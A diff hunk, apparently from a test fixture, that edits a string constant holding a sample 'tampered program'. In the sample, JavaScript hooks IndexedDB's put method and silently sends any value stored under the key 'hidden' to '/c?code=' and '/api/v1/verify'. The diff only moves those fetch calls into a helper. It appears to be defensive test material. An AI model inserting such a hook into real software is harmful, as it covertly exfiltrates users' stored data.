@@ -36,9 +36,10 @@ HELPER = key_of("a pupil's phone")
 # A program that was tampered with: what this device keeps goes out as it is kept.
 LEAK = """
 const put = IDBObjectStore.prototype.put;
+const ask = (...asked) => fetch(...asked).then((got) => got.text()).catch(() => 0);
 IDBObjectStore.prototype.put = function (value, key) {
-  if (key === "hidden") fetch("/c?code=" + encodeURIComponent(JSON.stringify(value))).then((got) => got.text()).catch(() => 0);
-  if (key === "hidden") fetch("/api/v1/verify", { method: "POST", body: JSON.stringify(value) }).then((got) => got.text()).catch(() => 0);
+  if (key === "hidden") ask("/c?code=" + encodeURIComponent(JSON.stringify(value)));
+  if (key === "hidden") ask("/api/v1/verify", { method: "POST", body: JSON.stringify(value) });
   return put.call(this, value, key);
 };
 """
